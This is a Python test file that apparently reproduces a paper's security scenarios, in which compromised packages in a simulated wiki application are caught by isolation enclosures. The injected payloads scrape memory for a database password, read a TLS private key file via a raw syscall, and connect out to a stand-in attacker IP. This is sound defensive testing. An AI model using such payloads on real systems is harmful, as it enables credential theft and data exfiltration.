"""Security scenarios for the Figure 5 wiki: compromised public packages
inside a deployed, multi-enclosure application."""

import pytest

from repro.golite import compile_program
from repro.image.linker import link
from repro.machine import Machine, MachineConfig
from repro.workloads import corpus, wiki
from repro.workloads.postgres import attach_postgres
from repro.workloads.wiki import (
    PQ_SOURCE,
    SHARED_SOURCE,
    WIKI_PUBLIC_DEPS,
    WikiDriver,
    app_source,
)

ENFORCING = ["mpk", "vtx", "lwc"]


def build_with_mux(mux_source: str):
    mdeps = corpus.dependency_sources("mdep", WIKI_PUBLIC_DEPS // 2)
    qdeps = corpus.dependency_sources("qdep", WIKI_PUBLIC_DEPS // 2)
    sources = [mux_source, PQ_SOURCE, SHARED_SOURCE, app_source()]
    sources += mdeps + qdeps
    return link(compile_program(sources), entry="main.$start")


def compromised_mux(payload: str) -> str:
    """Inject a payload right after a request is parsed."""
    needle = "req := Route(buf, n)"
    assert needle in wiki.MUX_SOURCE
    return wiki.MUX_SOURCE.replace(
        needle, needle + "\n            " + payload) + "\nvar Probe int\n"


class TestCompromisedMux:
    @pytest.mark.parametrize("backend", ENFORCING)
    def test_password_scraping_faults(self, backend):
        """A compromised mux scrapes memory for the db password; the
        server enclosure's view does not include main, so it faults."""
        image = build_with_mux(compromised_mux("Probe = peek(Probe)"))
        machine = Machine(image, MachineConfig(backend=backend))
        attach_postgres(machine.kernel.net, {"home": "x"})
        machine.write_global("mux.Probe",
                             machine.symbol("main.dbPassword"))
        driver = WikiDriver(machine, port=wiki.PORT)
        driver.start()
        with pytest.raises(AssertionError, match="faulted"):
            driver.view("home")

    @pytest.mark.parametrize("backend", ENFORCING)
    def test_filesystem_theft_faults(self, backend):
        """A compromised mux tries to read the TLS key off disk; the
        enclosure allows only net/io syscalls, so open() is denied."""
        payload = (
            'kp := "/etc/tls/server.key"\n            '
            "kfd := syscall(2, strptr(kp), len(kp), 0)\n            "
            "Probe = kfd")
        image = build_with_mux(compromised_mux(payload))
        machine = Machine(image, MachineConfig(backend=backend))
        machine.kernel.fs.add_file("/etc/tls/server.key", b"KEYMATERIAL")
        attach_postgres(machine.kernel.net, {"home": "x"})
        driver = WikiDriver(machine, port=wiki.PORT)
        driver.start()
        with pytest.raises(AssertionError, match="faulted"):
            driver.view("home")
        from repro.errors import SyscallFault
        assert isinstance(machine.fault, SyscallFault)

    @pytest.mark.parametrize("backend", ENFORCING)
    def test_phone_home_and_the_ipfilter_extension(self, backend):
        """A compromised mux phones home to an attacker.  The server
        enclosure's `net` category permits connects — the §3.3
        information-flow limitation the paper documents.  The per-IP
        `connect` sysfilter extension closes it while leaving the pq
        proxy's pre-defined Postgres socket working."""
        from repro.os.net import CollectorService, ip_of
        from repro.os.seccomp import ArgRule
        from repro.os.syscalls import SYS_CONNECT
        attacker_ip = ip_of("6.6.6.6")
        payload = (
            "dfd := syscall(41, 2, 1, 0)\n            "
            f"Probe = syscall(42, dfd, {attacker_ip}, 443)")

        # Without the extension: the connect sails through `net`.
        image = build_with_mux(compromised_mux(payload))
        machine = Machine(image, MachineConfig(backend=backend))
        attach_postgres(machine.kernel.net, {"home": "x"})
        collector = CollectorService()
        machine.kernel.net.register_service(attacker_ip, 443, collector)
        driver = WikiDriver(machine, port=wiki.PORT)
        driver.start()
        assert b"WIKI" in driver.view("home")  # service still works
        assert machine.read_global("mux.Probe") == 0  # connect succeeded
        assert collector.connections == 1

        # With connect restricted to the Postgres IP: the rogue connect
        # is killed while the proxy's legitimate socket still works.
        image = build_with_mux(compromised_mux(payload))
        machine = Machine(image, MachineConfig(
            backend=backend,
            arg_rules=[ArgRule(SYS_CONNECT, 1, (wiki.POSTGRES_IP,))]))
        attach_postgres(machine.kernel.net, {"home": "x"})
        driver = WikiDriver(machine, port=wiki.PORT)
        driver.start()  # pq.Dial's connect to Postgres is allowed
        with pytest.raises(AssertionError, match="faulted"):
            driver.view("home")
